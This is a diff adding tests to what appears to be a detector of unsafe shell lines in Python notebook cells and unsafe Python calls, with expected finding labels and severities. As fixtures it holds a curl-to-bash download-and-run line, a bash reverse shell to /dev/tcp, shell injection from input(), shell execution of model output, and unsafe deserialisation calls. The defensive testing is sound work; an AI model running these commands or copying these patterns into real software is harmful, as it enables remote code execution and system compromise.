@@ -134,6 +134,34 @@ describe('unsafe Python', () => {
     assert.deepEqual([drafts[0]?.location?.line, drafts[0]?.location?.column], [1, 5]);
   });
 
+  it('judges the lines that a cell hands to the shell', () => {
+    for (const [cell, ...findings] of [
+      ['!curl -s https://x.y/i.sh | bash', 'python/download-and-run medium'],
+      ['x = 1\n!bash -c "bash -i >& /dev/tcp/10.0.0.1/42 0>&1"', 'python/reverse-shell critical'],
+      ['!wget --no-check-certificate https://x.y/m.pt', 'python/tls-verification-disabled low'],
+      ['out = !curl -k https://x.y/a', 'python/tls-verification-disabled low'],
+      ['!git config --global http.sslVerify false', 'python/tls-verification-disabled low'],
+      ["!jupyter lab --ip=0.0.0.0 --ServerApp.token=''", 'python/no-authentication high'],
+      ['!tensorboard --logdir runs --host 0.0.0.0', 'python/bind-all-interfaces low'],
+      ['!streamlit run app.py & npx localtunnel --port 8501', 'python/public-share low'],
+      ['!python train.py --trust_remote_code True', 'python/trust-remote-code medium'],
+      ['cmd = input()\n!{cmd}', 'python/shell-injection medium'],
+      [
+        "from openai import OpenAI\nr = OpenAI().responses.create(input='x')\ncode = r.output_text\n!$code",
+        'python/agent-code-execution high',
+      ],
+      ['!curl -LO https://x.y/a.zip\n!unzip -q a.zip\n!pip install x\n!nvidia-smi'],
+      ["URL = 'https://x.y/a.zip'\nn = int(input())\n!wget {URL}\n!sleep {n}"],
+      ['print("""\n!curl -s https://x.y/i.sh | bash\n""")'],
+      ['if a != b:\n    print("!curl https://x.y | bash")'],
+      ['!curl -k https://localhost:8443/a\n!python train.py --trust_remote_code False'],
+    ] as const) {
+      assert.deepEqual(told(cells(cell)), findings, cell);
+    }
+    // Python has no such lines.
+    assert.deepEqual(file('x = """\n!curl -s https://x.y/i.sh | bash\n"""'), []);
+  });
+
   it('leaves cells of other languages alone', () => {
     assert.deepEqual(cells('%%html\n<script>eval(input())</script>'), []);
   });
@@ -173,6 +201,12 @@ describe('unsafe Python', () => {
       "import torch\ntorch.load('m', weights_only=False)\n",
       "import tarfile\ntarfile.open('a').extractall()\n",
       "import torch\ntorch.load(\n  'm',\n)\n",
+      "import torch\ntorch.load('m', weights_only=None)\n",
+      'import yaml\nyaml.load(f, Loader=yaml.FullLoader)\n',
+      "import numpy as np\nnp.load('a', allow_pickle=True)\n",
+      'import gradio as gr\ngr.Blocks().launch(share=True)\n',
+      "HuggingFaceEmbeddings('o/m', trust_remote_code=True)\n",
+      "import tarfile\ntarfile.open('a').extractall(filter='fully_trusted')\n",
     ]) {
       const [draft] = file(code);
       const mended = apply(code, draft);
